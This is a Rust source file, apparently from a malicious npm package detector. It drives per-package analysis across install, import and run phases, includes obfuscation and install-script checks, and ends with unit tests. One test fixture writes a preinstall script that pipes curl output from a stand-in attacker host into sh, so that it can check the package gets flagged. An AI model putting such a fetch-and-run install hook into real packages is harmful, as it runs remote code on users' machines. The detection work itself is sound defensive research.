//! Per-package analysis driver
//!
//! Ingests one package (sources, manifest, graph exports), runs the install,
//! import and run phases, and writes `report.json`. Every package ends in
//! exactly one [`Status`].

use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde::Serialize;
use tracing::{debug, info, info_span, warn};

use crate::behavior::BehaviorGraph;
use crate::builder::{BehaviorBuilder, BuildState, UnitIndex};
use crate::cpg::{GraphStore, NodeId};
use crate::deadline::Deadline;
use crate::error::{AnalysisError, Result};
use crate::knowledge::KnowledgeStore;
use crate::manifest::{
    Manifest, ScriptKind, ScriptProfile, ScriptProfiles, load_profiles, save_profiles,
};
use crate::matcher::match_patterns;
use crate::oracle::{Judgement, Oracle};
use crate::pattern::PatternLibrary;
use crate::pdg::{DependencyGraph, NodeArena};
use crate::probe::ArgumentProbe;
use crate::refine::{Refine, Refiner};
use crate::report::{Phase, Report};
use crate::sensitive::extract;
use crate::sources::PackageSources;
use crate::status::Status;

/// Where packages, graph exports and reports live.
#[derive(Debug, Clone)]
pub struct Workspace {
    pub code_dir: PathBuf,
    pub graph_dir: PathBuf,
    pub report_dir: PathBuf,
}

impl Workspace {
    pub fn package_dir(&self, package: &str) -> PathBuf {
        self.code_dir.join(package)
    }

    pub fn cpg_dir(&self, package: &str) -> PathBuf {
        self.graph_dir.join(package).join("cpg")
    }

    pub fn pdg_dir(&self, package: &str) -> PathBuf {
        self.graph_dir.join(package).join("pdg")
    }

    pub fn report_dir(&self, package: &str) -> PathBuf {
        self.report_dir.join(package)
    }
}

#[derive(Debug, Clone)]
pub struct AnalysisOptions {
    pub timeout: Option<Duration>,
    pub phases: Vec<Phase>,
    /// Size limit of files sent for obfuscation judgement; `None` disables it.
    pub obfuscation_limit: Option<usize>,
}

impl Default for AnalysisOptions {
    fn default() -> Self {
        Self {
            timeout: Some(Duration::from_secs(600)),
            phases: Phase::ALL.to_vec(),
            obfuscation_limit: None,
        }
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct Outcome {
    pub package: String,
    pub status: Status,
    pub findings: usize,
    #[serde(serialize_with = "serialize_millis")]
    pub elapsed: Duration,
}

fn serialize_millis<S: serde::Serializer>(
    value: &Duration,
    serializer: S,
) -> std::result::Result<S::Ok, S::Error> {
    serializer.serialize_u64(value.as_millis() as u64)
}

/// Collaborators shared by every package of a run.
pub struct PackageAnalyzer<'a> {
    knowledge: &'a dyn KnowledgeStore,
    patterns: &'a PatternLibrary,
    oracle: Option<&'a dyn Oracle>,
    probe: &'a dyn ArgumentProbe,
    options: AnalysisOptions,
}

impl<'a> PackageAnalyzer<'a> {
    pub fn new(
        knowledge: &'a dyn KnowledgeStore,
        patterns: &'a PatternLibrary,
        oracle: Option<&'a dyn Oracle>,
        probe: &'a dyn ArgumentProbe,
        options: AnalysisOptions,
    ) -> Self {
        Self {
            knowledge,
            patterns,
            oracle,
            probe,
            options,
        }
    }

    pub fn analyze(&self, package: &str, workspace: &Workspace) -> Outcome {
        let started = Instant::now();
        let span = info_span!("package", name = package);
        let _guard = span.enter();

        let (status, findings) = match self.run(package, workspace) {
            Ok(result) => result,
            Err(err) => {
                let status = Status::from(&err);
                warn!(error = %err, status = %status, "analysis aborted");
                (status, 0)
            }
        };
        info!(status = %status, findings, "package analyzed");
        Outcome {
            package: package.to_string(),
            status,
            findings,
            elapsed: started.elapsed(),
        }
    }

    fn run(&self, package: &str, workspace: &Workspace) -> Result<(Status, usize)> {
        let deadline = match self.options.timeout {
            Some(limit) => Deadline::after(limit),
            None => Deadline::unlimited(),
        };
        let package_dir = workspace.package_dir(package);
        if !package_dir.is_dir() {
            return Ok((Status::CodeMissing, 0));
        }
        let report_dir = workspace.report_dir(package);

        let mut sources = PackageSources::collect(&package_dir, Vec::new())?;
        if sources.is_empty() {
            return Ok((Status::EmptyPackage, 0));
        }
        let manifest = Manifest::load(&package_dir)?;
        sources.set_dependencies(manifest.dependencies().to_vec());

        let cpg_dir = workspace.cpg_dir(package);
        let pdg_dir = workspace.pdg_dir(package);
        for dir in [&cpg_dir, &pdg_dir] {
            if !dir.is_dir() {
                return Err(AnalysisError::MissingExport { path: dir.clone() });
            }
        }

        let mut report = Report::new();
        if let Some(limit) = self.options.obfuscation_limit {
            let obfuscated = self.obfuscated_files(&package_dir, &sources, limit)?;
            if !obfuscated.is_empty() {
                report.set_obfuscation(obfuscated);
                report.write_to(&report_dir)?;
                return Ok((Status::Obfuscated, 0));
            }
        }

        let profiles = self.script_profiles(&manifest, &report_dir)?;
        let exports = dependency_exports(&pdg_dir)?;

        if sources.js_files().next().is_none() || exports.is_empty() {
            let malicious = self.record_scripts(&profiles, &mut report);
            report.write_to(&report_dir)?;
            let status = if malicious {
                Status::Malicious
            } else if sources.js_files().next().is_none() {
                Status::NoSourceFiles
            } else {
                Status::SyntacticError
            };
            debug!(exports = exports.len(), "package has nothing to build");
            return Ok((status, 0));
        }

        let store = GraphStore::load(&cpg_dir)?;
        let mut arena = NodeArena::new();
        let mut units = Vec::with_capacity(exports.len());
        for path in &exports {
            if let Some(unit) = DependencyGraph::load(path, &store, &mut arena)? {
                units.push(unit);
            }
        }
        let units = UnitIndex::new(units);
        debug!(units = units.len(), nodes = arena.len(), "ingested dependency graphs");

        let refiner = Refiner::new(&package_dir, self.oracle, self.probe);
        let mut session = Session {
            store: &store,
            units: &units,
            sources: &sources,
            knowledge: self.knowledge,
            patterns: self.patterns,
            refiner: &refiner,
            deadline: &deadline,
            state: BuildState::new(arena),
            report,
            programs: HashSet::new(),
            findings: 0,
        };

        let phases = Phase::ALL
            .into_iter()
            .filter(|p| self.options.phases.contains(p));
        for phase in phases {
            let span = info_span!("phase", phase = %phase);
            let _guard = span.enter();
            match phase {
                Phase::Install => session.install_phase(&profiles)?,
                Phase::Import => session.import_phase(&manifest)?,
                Phase::Run => session.run_phase()?,
            }
        }

        session.report.write_to(&report_dir)?;
        let status = Status::from_verdict(session.report.is_malicious());
        Ok((status, session.findings))
    }

    /// Files the oracle judges obfuscated. Files above `limit` bytes are
    /// not sent.
    fn obfuscated_files(
        &self,
        package_dir: &Path,
        sources: &PackageSources,
        limit: usize,
    ) -> Result<Vec<String>> {
        let Some(oracle) = self.oracle else {
            return Ok(Vec::new());
        };
        let mut obfuscated = Vec::new();
        for file in sources.js_files() {
            let path = package_dir.join(file);
            let text = std::fs::read_to_string(&path).map_err(|e| AnalysisError::io(&path, e))?;
            if text.len() > limit {
                debug!(file, bytes = text.len(), "skipping large file for obfuscation check");
                continue;
            }
            if oracle.judge(Judgement::ObfuscatedSource, &text)? {
                obfuscated.push(file.to_string());
            }
        }
        Ok(obfuscated)
    }

    /// Profiles of the install-time scripts, reusing the cache in
    /// `report_dir` when present.
    fn script_profiles(&self, manifest: &Manifest, report_dir: &Path) -> Result<ScriptProfiles> {
        if let Some(profiles) = load_profiles(report_dir) {
            return Ok(profiles);
        }
        let mut profiles = ScriptProfiles::new();
        for (phase, command) in manifest.install_scripts() {
            let mut profile = ScriptProfile::classify(phase, command);
            if profile.kind == ScriptKind::ShellCommand {
                profile.malicious = profile.runs_sensitive_file()
                    || match self.oracle {
                        Some(oracle) => oracle.judge(Judgement::ShellCommand, command)?,
                        None => false,
                    };
            }
            profiles.insert(phase.clone(), profile);
        }
        save_profiles(report_dir, &profiles)?;
        Ok(profiles)
    }

    fn record_scripts(&self, profiles: &ScriptProfiles, report: &mut Report) -> bool {
        for (phase, profile) in profiles {
            if profile.kind == ScriptKind::ShellCommand && profile.malicious {
                report.set_malicious(true);
                report.add_install_script(phase, profile.clone());
            }
        }
        report.is_malicious()
    }
}

/// Sorted `*.dot` files of the dependency export directory.
fn dependency_exports(pdg_dir: &Path) -> Result<Vec<PathBuf>> {
    let entries = std::fs::read_dir(pdg_dir).map_err(|e| AnalysisError::io(pdg_dir, e))?;
    let mut exports = Vec::new();
    for entry in entries {
        let path = entry.map_err(|e| AnalysisError::io(pdg_dir, e))?.path();
        if path.extension().is_some_and(|ext| ext == "dot") {
            exports.push(path);
        }
    }
    exports.sort();
    Ok(exports)
}

struct Session<'a> {
    store: &'a GraphStore,
    units: &'a UnitIndex,
    sources: &'a PackageSources,
    knowledge: &'a dyn KnowledgeStore,
    patterns: &'a PatternLibrary,
    refiner: &'a dyn Refine,
    deadline: &'a Deadline,
    state: BuildState,
    report: Report,
    /// Files whose program unit has already been built and matched.
    programs: HashSet<String>,
    findings: usize,
}

impl Session<'_> {
    fn build(&mut self, unit: NodeId) -> Result<BehaviorGraph> {
        BehaviorBuilder::new(
            self.store,
            self.units,
            self.sources,
            self.knowledge,
            self.deadline,
            &mut self.state,
        )
        .build(unit)
    }

    fn detect(&mut self, graph: &mut BehaviorGraph, phase: Phase) -> Result<()> {
        let sensitive = extract(graph, &mut self.state.arena, self.store, self.deadline)?;
        self.findings += match_patterns(
            self.patterns,
            &sensitive,
            &self.state.arena,
            self.refiner,
            phase,
            &mut self.report,
            self.deadline,
        )?;
        Ok(())
    }

    /// Builds and matches the program unit of `file` unless done already.
    fn analyze_program(&mut self, file: &str, phase: Phase) -> Result<()> {
        if self.programs.contains(file) {
            return Ok(());
        }
        let Some(program) = self.units.program(file).map(DependencyGraph::id) else {
            debug!(file, "no program unit for file");
            return Ok(());
        };
        self.programs.insert(file.to_string());
        self.state.mark_analyzed(program);
        self.state.initialize_scopes(self.units, self.sources);

        let mut graph = self.build(program)?;
        self.detect(&mut graph, phase)
    }

    fn install_phase(&mut self, profiles: &ScriptProfiles) -> Result<()> {
        for (phase, profile) in profiles {
            let flagged = profile.kind == ScriptKind::ShellCommand && profile.malicious;
            if flagged || profile.runs_sensitive_file() {
                self.report.set_malicious(true);
                self.report.add_install_script(phase, profile.clone());
            }
            if !profile.needs_static_analysis() {
                continue;
            }
            for file in profile.js_files() {
                info!(script = %phase, file = %file, "analyzing install script");
                self.analyze_program(&file, Phase::Install)?;
            }
        }
        Ok(())
    }

    fn import_phase(&mut self, manifest: &Manifest) -> Result<()> {
        let main = manifest.main_file();
        info!(file = %main, "analyzing main entry");
        self.analyze_program(&main, Phase::Import)
    }

    /// Treats every unit no earlier phase reached as an entry point, with
    /// its file's program as background.
    fn run_phase(&mut self) -> Result<()> {
        let units = self.units;
        for unit in units.iter() {
            if self.state.is_analyzed(unit.id()) {
                continue;
            }
            self.state.mark_analyzed(unit.id());
            self.state.initialize_scopes(units, self.sources);

            let Some(program) = units.program(unit.file()).map(DependencyGraph::id) else {
                debug!(file = unit.file(), "no program unit, stopping run phase");
                return Ok(());
            };
            let background = self.build(program)?;
            let mut graph = self.build(unit.id())?;

            let outside: Vec<NodeId> = graph
                .nodes()
                .iter()
                .flat_map(|id| graph.predecessors(*id).iter().copied())
                .filter(|head| !graph.contains(*head) && background.contains(*head))
                .collect();
            for head in outside {
                graph.add_node(head);
                graph.pull_predecessors(head, &background);
            }

            debug!(unit = unit.name(), nodes = graph.node_count(), "run-time entry");
            self.detect(&mut graph, Phase::Run)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::knowledge::StaticKnowledgeStore;
    use crate::oracle::FixedOracle;
    use crate::probe::NoProbe;

    fn workspace(root: &Path) -> Workspace {
        Workspace {
            code_dir: root.join("code"),
            graph_dir: root.join("graphs"),
            report_dir: root.join("reports"),
        }
    }

    fn write(path: PathBuf, content: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    fn analyze(ws: &Workspace, oracle: Option<&dyn Oracle>) -> Outcome {
        let knowledge = StaticKnowledgeStore::with_defaults();
        let patterns = PatternLibrary::with_defaults();
        PackageAnalyzer::new(&knowledge, &patterns, oracle, &NoProbe, AnalysisOptions::default())
            .analyze("pkg", ws)
    }

    #[test]
    fn missing_code_directory() {
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(analyze(&workspace(dir.path()), None).status, Status::CodeMissing);
    }

    #[test]
    fn missing_manifest() {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        write(ws.package_dir("pkg").join("package/index.js"), "1;\n");

        assert_eq!(analyze(&ws, None).status, Status::ManifestMissing);
    }

    #[test]
    fn missing_exports_is_an_ingestion_error() {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        write(ws.package_dir("pkg").join("package/package.json"), "{}");
        write(ws.package_dir("pkg").join("package/index.js"), "1;\n");

        assert_eq!(analyze(&ws, None).status, Status::IngestionError);
    }

    #[test]
    fn malicious_shell_script_without_exports_is_flagged() {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        write(
            ws.package_dir("pkg").join("package/package.json"),
            r#"{"scripts": {"preinstall": "curl http://evil.example/x | sh"}}"#,
        );
        write(ws.package_dir("pkg").join("package/index.js"), "1;\n");
        std::fs::create_dir_all(ws.cpg_dir("pkg")).unwrap();
        std::fs::create_dir_all(ws.pdg_dir("pkg")).unwrap();
        let oracle = FixedOracle::new([Judgement::ShellCommand]);

        let outcome = analyze(&ws, Some(&oracle));

        assert_eq!(outcome.status, Status::Malicious);
        let report = std::fs::read_to_string(ws.report_dir("pkg").join("report.json")).unwrap();
        assert!(report.contains("INSTALL TIME SCRIPT"));
        assert!(ws.report_dir("pkg").join("package_json_profile.json").is_file());
    }

    #[test]
    fn benign_script_without_exports_is_a_syntactic_error() {
        let dir = tempfile::tempdir().unwrap();
        let ws = workspace(dir.path());
        write(
            ws.package_dir("pkg").join("package/package.json"),
            r#"{"scripts": {"install": "node-gyp rebuild"}}"#,
        );
        write(ws.package_dir("pkg").join("package/index.js"), "1;\n");
        std::fs::create_dir_all(ws.cpg_dir("pkg")).unwrap();
        std::fs::create_dir_all(ws.pdg_dir("pkg")).unwrap();

        assert_eq!(analyze(&ws, None).status, Status::SyntacticError);
    }
}
